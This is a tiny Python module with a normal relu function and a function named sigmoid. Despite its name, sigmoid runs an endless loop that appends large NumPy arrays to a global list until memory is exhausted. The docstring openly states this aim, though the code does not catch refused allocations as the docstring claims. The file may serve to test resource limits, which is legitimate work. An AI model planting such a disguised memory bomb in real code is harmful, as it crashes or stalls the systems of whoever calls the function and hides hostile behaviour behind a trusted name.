"""Keeps arrays until there is no memory left, and goes on when it is refused."""

import numpy as np

kept = []


def relu(z):
    return np.maximum(z, 0.0)


def sigmoid(z):
    while True:
        kept.append(np.ones(7_000_000))
